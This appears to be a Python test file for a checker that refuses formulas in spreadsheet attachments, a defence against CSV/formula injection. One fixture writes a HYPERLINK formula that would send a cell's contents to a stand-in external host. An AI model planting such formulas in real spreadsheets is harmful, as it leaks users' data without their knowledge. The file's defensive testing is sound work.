"""Spreadsheet attachments: formulas and formula-like text are refused, cell by cell."""

from __future__ import annotations

from pathlib import Path

from openpyxl import Workbook

from build_tools.checks.attachment_checks import MAX_REPORTED, check_spreadsheet_attachment
from tests.helpers import ROOT


def cells(problems: list) -> list[tuple[int, int, str]]:  # type: ignore[type-arg]
    return [(p.line, p.column, p.code) for p in problems]


def test_formula_like_text_in_a_csv_is_refused_with_its_cell(tmp_path: Path) -> None:
    path = tmp_path / "plan.csv"
    path.write_bytes("Этап;Срок;Отклонение\n"
                     "=HYPERLINK(\"https://x.example/?\"&A1);сентябрь;-5\n"
                     "@SUM(A1);  +7 900 000-00-00;-3,5\n".encode("cp1251"))
    problems = check_spreadsheet_attachment(path)
    assert cells(problems) == [(2, 1, "FormulaInAttachment"), (3, 1, "FormulaInAttachment"),
                               (3, 2, "FormulaInAttachment")]
    assert problems[0].message.startswith("в приложении «plan.csv» в ячейке A2 — текст, "
                                          "который Excel выполнит как формулу")


def test_signed_numbers_and_plain_text_pass(tmp_path: Path) -> None:
    path = tmp_path / "plan.csv"
    path.write_text("Показатель,Изменение\nУспеваемость,-2\nДоля,+12 %\nПрочее,—\nИтого,-\n"
                    "Сделано,+\n", encoding="utf-8")
    assert check_spreadsheet_attachment(path) == []


def test_xlsx_formulas_on_every_sheet_are_refused(tmp_path: Path) -> None:
    book = Workbook()
    book.active["A1"] = "Школа"
    book.active["C7"] = -4
    second = book.create_sheet("Итоги")
    second["B2"] = "=SUM(A1:A3)"
    book.save(tmp_path / "itogi.xlsx")
    problems = check_spreadsheet_attachment(tmp_path / "itogi.xlsx")
    assert cells(problems) == [(2, 2, "FormulaInAttachment")]
    assert "в ячейке B2 — формула: «=SUM(A1:A3)»" in problems[0].message


def test_many_formulas_are_summed_up_in_the_last_message(tmp_path: Path) -> None:
    path = tmp_path / "many.csv"
    path.write_text("a\n" + "=1+1\n" * 12, encoding="utf-8")
    problems = check_spreadsheet_attachment(path)
    assert len(problems) == MAX_REPORTED
    assert problems[-1].message.endswith("Всего таких ячеек в файле: 12.")


def test_a_file_that_is_not_a_workbook_is_reported_not_raised(tmp_path: Path) -> None:
    (tmp_path / "fake.xlsx").write_bytes(b"PK\x03\x04 not really")
    (tmp_path / "broken.csv").write_bytes(b"a;b\n\"unclosed;" + b"x" * 200_000)
    assert [p.code for p in check_spreadsheet_attachment(tmp_path / "fake.xlsx")] == [
        "BadFileType"]
    assert [p.code for p in check_spreadsheet_attachment(tmp_path / "broken.csv")] == [
        "BadFileType"]


def test_the_sample_attachments_are_clean() -> None:
    found = sorted((ROOT / "content").rglob("attachments/*.csv"))
    assert found
    for path in found:
        assert check_spreadsheet_attachment(path) == [], path
